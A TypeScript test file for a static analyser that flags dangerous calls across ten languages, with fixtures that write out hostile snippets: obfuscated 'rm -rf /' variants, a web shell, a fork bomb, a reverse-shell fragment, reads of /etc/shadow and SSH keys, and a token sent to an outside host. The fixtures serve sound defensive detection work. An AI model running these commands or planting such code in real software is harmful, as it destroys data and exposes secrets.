import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { CALL_FACTS } from '../../../language/calls/all-calls.ts'
import { findDangers } from '../find-dangers.ts'
import { guards } from '../guards.ts'

const told = (language: string, code: string): string[] =>
  findDangers({ language, code }, guards).findings.map(({ rule, severity }) => `${rule} ${severity}`)

const WIPES: [language: string, attack: string, code: string][] = [
  ['ruby', 'a shell line', 'system("rm -rf /")'],
  ['ruby', 'backticks', '`rm -rf /`'],
  ['ruby', 'a literal of its own', '%x{rm -rf /}'],
  ['ruby', 'a list of words', 'system "rm", "-rf", "/"'],
  ['ruby', 'a constant put into text', 'root = "/"\nsystem("rm -rf #{root}")'],
  ['ruby', 'a method called by its name', 'Kernel.send(:system, "rm -rf /")'],
  ['ruby', 'a pipe that is opened', 'open("|rm -rf /")'],
  ['ruby', 'text within text', 'puts "done #{`rm -rf /`}"'],
  ['perl', 'a shell line', 'system("rm -rf /");'],
  ['perl', 'a variable in text', 'my $tool = "rm"; system("$tool -rf /");'],
  ['perl', 'a literal of its own', 'my $x = qx{rm -rf /};'],
  ['perl', 'a pipe that is opened', 'open(my $f, "rm -rf / |");'],
  ['lua', 'a call without brackets', 'os.execute "rm -rf /"'],
  ['lua', 'another name, and joined text', 'local run = os.execute\nrun("rm -rf " .. "/")'],
  ['lua', 'an index', 'os["execute"]([[rm -rf /]])'],
  ['php', 'a shell line', '<p>\n<?php system("rm -rf /"); ?>'],
  ['php', 'a function named by text', '<?php $f = "sys" . "tem"; $f("rm -rf /");'],
  ['php', 'a caller of functions', '<?php call_user_func("passthru", "rm -rf /");'],
  ['php', 'a cut-out without tags', 'shell_exec("rm -rf /");'],
  ['r', 'pasted words', 'system(paste("rm", "-rf", "/"))'],
  ['r', 'a caller of functions', 'do.call("system", list("rm -rf /"))'],
  ['r', 'a list of words', 'system2("rm", c("-rf", "/"))'],
  ['go', 'a list of words', 'func main() { exec.Command("rm", "-rf", "/").Run() }'],
  ['go', 'a shell among the words', 'exec.Command("sh", "-c", "rm -rf /").Run()'],
  ['go', 'a list in a variable', 'args := []string{"-rf", "/"}\nexec.Command("rm", args...).Run()'],
  ['c', 'a macro', '#define WIPE "rm -rf /"\nint main(void) { return system(WIPE); }'],
  ['c', 'arguments of a new process', 'execl("/bin/sh", "sh", "-c", "rm -rf /", NULL);'],
  ['c', 'strings side by side', 'static const char *line = "rm " "-rf /"; popen(line, "r");'],
  ['cpp', 'text that grows', 'std::string c = "rm -rf "; c += "/"; std::system(c.c_str());'],
  ['java', 'a runtime in a variable', 'Runtime r = Runtime.getRuntime(); r.exec("rm -rf /");'],
  [
    'java',
    'a list that grows',
    'List<String> c = new ArrayList<>(); c.add("rm"); c.add("-rf"); c.add("/"); new ProcessBuilder(c);',
  ],
  ['java', 'an array', 'Runtime.getRuntime().exec(new String[]{"sh", "-c", "rm -rf /"});'],
  ['rust', 'a command that is built', 'Command::new("rm").arg("-rf").arg("/").spawn();'],
  ['rust', 'a command built in steps', 'let mut c = Command::new("rm");\nc.arg("-rf");\nc.arg("/");'],
  ['rust', 'formatted text', 'let x = format!("rm -rf {}", "/"); Command::new("bash").arg("-c").arg(&x).status();'],
]

const OTHERS: [language: string, attack: string, code: string, finding: string][] = [
  ['ruby', 'a folder of the system deleted', 'FileUtils.rm_rf("/")', 'call/delete-system critical'],
  ['go', 'a folder of the system deleted', 'os.RemoveAll("/etc")', 'call/delete-system critical'],
  ['rust', 'a folder of the system deleted', 'std::fs::remove_dir_all("/").unwrap();', 'call/delete-system critical'],
  ['cpp', 'accounts overwritten', 'std::ofstream out("/etc/passwd");', 'call/write-system-file high'],
  ['java', 'a job planned', 'new FileWriter("/etc/cron.d/x");', 'call/write-system-file high'],
  ['c', 'a disk overwritten', 'FILE *f = fopen("/dev/sda", "w");', 'call/write-system-file critical'],
  ['php', 'passwords read', '<?php echo file_get_contents("/etc/shadow");', 'call/read-secret high'],
  ['perl', 'keys read', 'open(my $f, "<", "/home/ada/.ssh/id_rsa");', 'call/read-secret high'],
  [
    'lua',
    'credentials of a cloud',
    'http.request("http://169.254.169.254/latest/meta-data")',
    'call/cloud-metadata high',
  ],
  ['ruby', 'hidden code', 'eval(Base64.decode64("cHV0cyAx"))', 'call/eval critical'],
  ['php', 'a web shell', '<?php eval($_POST["x"]);', 'call/eval high'],
  ['r', 'input run as code', 'eval(parse(text = readline()))', 'call/eval high'],
  ['php', 'a file of the visitor', '<?php include $_GET["page"];', 'call/chosen-module high'],
  [
    'java',
    'objects of a stranger',
    'new ObjectInputStream(request.getInputStream()).readObject();',
    'call/deserialise high',
  ],
  ['ruby', 'a parameter in a shell', 'system("ls #{params[:dir]}")', 'call/shell-injection high'],
  ['go', 'an argument in a shell', 'exec.Command("bash", "-c", os.Args[1]).Run()', 'call/shell-injection high'],
  ['c', 'a native library', 'dlopen(path, RTLD_NOW);', 'call/native-code medium'],
  ['c', 'a fork bomb', 'while (1) fork();', 'call/fork-bomb critical'],
  [
    'ruby',
    'a secret in an address',
    'Net::HTTP.get(URI("https://e.com/?t=" + ENV["API_TOKEN"]))',
    'call/send-secret high',
  ],
  [
    'c',
    'a reverse shell',
    'connect(s, (struct sockaddr *)&a, sizeof(a)); dup2(s, 0); execve("/bin/sh", NULL, NULL);',
    'call/reverse-shell critical',
  ],
]

const HARMLESS: [language: string, reason: string, code: string][] = [
  ['ruby', 'the words for echo', 'system("echo", "rm -rf /")'],
  ['go', 'the words for echo', 'exec.Command("echo", "rm -rf /").Run()'],
  ['c', 'a comment', '// system("rm -rf /")\n/* system("rm -rf /") */\nint main(void) { return 0; }'],
  ['perl', 'documentation', '=pod\n\nsystem("rm -rf /")\n\n=cut\n\nprint "x";\n'],
  ['java', 'text in a message', 'System.out.println("never type rm -rf /");'],
  ['lua', 'a long comment', '--[[ os.execute("rm -rf /") ]]\nprint(1)'],
  ['php', 'the page around the code', 'system("rm -rf /") is dangerous\n<?php echo 1; ?>\nsystem("rm -rf /")'],
  ['rust', 'a folder of its own', 'std::fs::remove_dir_all("target/tmp").unwrap();'],
  ['r', 'another function of that name', 'tool$system("rm -rf /")'],
]

describe('a program in a language that is read by its calls', () => {
  it.each(WIPES)('of %s does not wipe the disk unseen by %s', (language, _, code) => {
    expect(told(language, code)).toContain('call/hostile-command critical')
  })

  it.each(OTHERS)('of %s does not hide %s', (language, _, code, finding) => {
    expect(told(language, code)).toContain(finding)
  })

  it.each(HARMLESS)('of %s is not raised for %s', (language, _, code) => {
    expect(told(language, code).filter((each) => /(?:high|critical)$/.test(each))).toEqual([])
  })

  it('always says that it is read in part, and names the unread parts', () => {
    for (const language of Object.keys(CALL_FACTS)) {
      const { isPartial, unread } = findDangers({ language, code: 'x' }, guards)
      expect([isPartial, unread]).toEqual([true, [expect.stringContaining('is not followed')]])
    }
  })

  it('is read whatever it is, and findings point into it', () => {
    const words = [
      'system(',
      '"',
      "'",
      '`',
      '#{',
      '}',
      '<<A\n',
      '%x{',
      '/*',
      '=begin\n',
      '(',
      '[',
      '{',
      '->',
      '::',
      '.',
      '=',
      '$x',
      '<?php ',
    ]
    const piece = fc.oneof(fc.constantFrom(...words), fc.string({ maxLength: 4 }))
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 25 }),
        fc.constantFrom(...Object.keys(CALL_FACTS)),
        (parts, language) => {
          const code = parts.join('')
          for (const { line } of findDangers({ code, language }, guards).findings) {
            expect(line).toBeLessThanOrEqual(code.split(/\r\n|\n|\r/).length)
          }
        },
      ),
      { numRuns: 400 },
    )
  })

  it.each(['f(', '[', '"#{', '(/[', 'a.', 'a=', '<<A ', 'x += "a"\nsystem(x)\n'])(
    'nested or repeated without end as %j is read to its end',
    (piece) => {
      for (const language of ['ruby', 'perl', 'rust']) {
        const code = `${piece.repeat(20_000 / piece.length)}\n`
        expect(() => findDangers({ code, language }, guards)).not.toThrow()
      }
    },
  )
})

const WEAK: [language: string, code: string, finding: string][] = [
  ['c', 'void f(char *a) { char b[9]; strcpy(b, a); }', 'call/overflow medium'],
  ['c', 'void f(void) { char b[9]; strcpy(b, "x"); sprintf(b, "%d", 1); }', 'call/overflow low'],
  ['c', 'int main(void) { char b[9]; scanf("%s", b); }', 'call/overflow medium'],
  ['rust', 'fn main() { unsafe { *p = 1 } }', 'call/unchecked-memory medium'],
  ['rust', 'fn main() { Command::new(tool).status(); }', 'call/foreign-program medium'],
  ['java', 'SAXParserFactory f = SAXParserFactory.newInstance();', 'call/xml-entities medium'],
  ['java', 'DriverManager.getConnection(url, "sa", "hunter22");', 'call/constant-password medium'],
  ['java', 'ctx.search("ou=people", "(uid=" + name + ")", controls);', 'call/directory-injection medium'],
  ['go', 'http.Get(r.URL.Query().Get("to"))', 'call/chosen-address medium'],
  ['ruby', 'User.order(params[:by])', 'call/sql-injection medium'],
  [
    'java',
    'Rows f(@QueryParam("n") String n) { return Files.readString(Path.of("/data/" + n)); }',
    'call/chosen-file medium',
  ],
  ['java', 'new java.io.FileReader("box/" + request.getParameter("n"));', 'call/chosen-file medium'],
  [
    'java',
    'String n = request.getHeader("n"); String m; if (a > 1) m = n; else m = "x"; db.queryForList("select a from b where c=\'" + m + "\'");',
    'call/sql-injection high',
  ],
  [
    'java',
    'String m = request.getHeader("n"); switch (a) { case 1: m = "x"; break; default: m = "y"; } new File("box", m);',
    'call/chosen-file medium',
  ],
  [
    'java',
    'List<String> l = new ArrayList<>(); l.add("x"); l.add(request.getHeader("n")); l.remove(0); new File("box", l.get(0));',
    'call/chosen-file medium',
  ],
  ['php', '<?php $n = $_GET["n"]; $db->querySingle("select a from b where c = " . $n);', 'call/sql-injection high'],
  ['c', 'int main(int n, char **words) { printf(words[1]); }', 'call/chosen-format medium'],
  ['cpp', 'int main(int n, const char *words[]) { fopen(words[1], "r"); }', 'call/chosen-file medium'],
  ['perl', 'my $name = $q->param("n"); open(my $f, "<", "box/$name");', 'call/chosen-file medium'],
  ['ruby', 'render inline: "<p>#{params[:t]}</p>"', 'call/chosen-template high'],
  ['java', 'void f(String sql, Statement s) { s.executeQuery(sql); }', 'call/sql-injection medium'],
  ['java', 'query.put("$where", "this.owner == " + name);', 'call/query-code high'],
  ['java', 'paths.compile("//user[@name=" + name + "]");', 'call/directory-injection medium'],
  ['java', '@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Object payload;', 'call/deserialise medium'],
  ['java', 'void f(String name) { Class.forName(name); }', 'call/chosen-module medium'],
  ['java', 'String.format(request.getParameter("form"), 1);', 'call/chosen-format medium'],
  [
    'rust',
    'async fn f(name: web::Path<String>) { std::fs::read(format!("data/{}", name)); }',
    'call/chosen-file medium',
  ],
  ['go', 'http.ServeFile(w, r, r.URL.Query().Get("file"))', 'call/chosen-file medium'],
  [
    'go',
    'id := r.FormValue("id")\nif x { id = "1" }\ndb.Query("select a from b where c = " + id)',
    'call/sql-injection high',
  ],
  ['go', 'token.SignedString([]byte("a-constant-key"))', 'call/constant-password medium'],
  ['go', 'sql.Open("mysql", "app:s3cr3tpw@tcp(db1:3306)/shop")', 'text/address-password high'],
  ['php', '<?php $act = $_GET["act"]; $act();', 'call/chosen-method medium'],
  ['php', '<?php preg_replace("/x/e", $code, $text);', 'call/eval medium'],
  ['php', '<?php preg_replace("{x}ie", $code, $text);', 'call/eval medium'],
  ['php', '<?php simplexml_load_string($x, "X", LIBXML_NOENT);', 'call/xml-entities medium'],
  ['php', '<?php move_uploaded_file($t, "up/" . $_FILES["f"]["name"]);', 'call/chosen-file medium'],
  [
    'c',
    'void f(char *n) { char q[99]; snprintf(q, 99, "select a from b where c=%s", n); mysql_query(c, q); }',
    'call/sql-injection medium',
  ],
]

describe('dangers that depend on their use', () => {
  it.each(WEAK)('of %s are told with a lower severity: %s', (language, code, finding) => {
    expect(told(language, code)).toContain(finding)
  })

  it.each([
    ['java', 'f = SAXParserFactory.newInstance(); f.setFeature("x/disallow-doctype-decl", true);'],
    ['java', 'DriverManager.getConnection(url, user, password);'],
    ['java', 'String m = request.getHeader("n"); m = "x"; new java.io.File("box", m);'],
    [
      'java',
      'List<String> l = new ArrayList<>(); l.add(request.getHeader("n")); l.add("x"); new File("box", l.get(1));',
    ],
    ['go', 'http.Get("https://api.example.com/items?id=" + r.FormValue("id"))'],
    ['ruby', 'User.where(name: params[:name])'],
    ['ruby', 'render inline: "<p>constant</p>"'],
    ['java', 'void f(@QueryParam("n") int n) { log(n); } void g(Statement s) { s.executeQuery(Q.ALL); }'],
    ['java', 'Pattern.compile("//" + host + "/"); Class.forName("org.h2.Driver");'],
    ['go', 'id := "1"\nif x { id = "2" }\ndb.Query("select a from b where c = " + id)'],
    ['php', '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "up/" . basename($_FILES["f"]["name"]));'],
    ['php', '<?php preg_replace("/e/", "x", $text); $f = "trim"; $f($text);'],
    ['rust', 'fn main() { println!("unsafe { }"); Command::new("ls").status(); }'],
  ])('are not seen in %s where there are none: %s', (language, code) => {
    expect(told(language, code).filter((each) => !/ (?:low|info)$/.test(each))).toEqual([])
  })
})
